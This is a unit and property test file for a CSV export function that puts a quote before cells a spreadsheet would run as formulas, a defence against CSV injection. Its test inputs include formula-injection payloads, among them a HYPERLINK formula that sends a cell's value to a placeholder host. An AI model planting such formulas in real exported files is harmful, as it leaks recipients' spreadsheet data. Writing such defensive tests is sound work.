/** Export cells that a spreadsheet would run as a formula are written as text (OWASP CSV injection). */
import fc from 'fast-check';
import { neutralise } from '../../bff/src/modules/export/export.columns';

describe('neutralise', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A2,"点此")'],
    ['+86 138'],
    ['-1+2'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\t'],
    ['  =1+1'],
    ['\n@cmd'],
    ['\u3000=1+1'],
  ])('puts a single quote before %j', (text) => {
    expect(neutralise(text)).toBe(`'${text}`);
  });

  it.each([['北京甲电器有限公司'], ['a=b'], ['  北京'], [''], ["'=already quoted"], ['138****5678'], ['2026-05-14 09:30']])('leaves %j as it is', (text) => {
    expect(neutralise(text)).toBe(text);
  });

  it('leaves numbers as numbers, negative ones too', () => {
    expect(neutralise(-1250)).toBe(-1250);
    expect(neutralise(0)).toBe(0);
  });

  it('leaves no text that starts, after whitespace, with a formula character', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const out = neutralise(text) as string;
        expect(/^\s*[=+\-@\t\r]/.test(out)).toBe(false);
        // Only ever a quote in front: the text itself is kept.
        expect(out === text || out === `'${text}`).toBe(true);
      }),
    );
  });
});
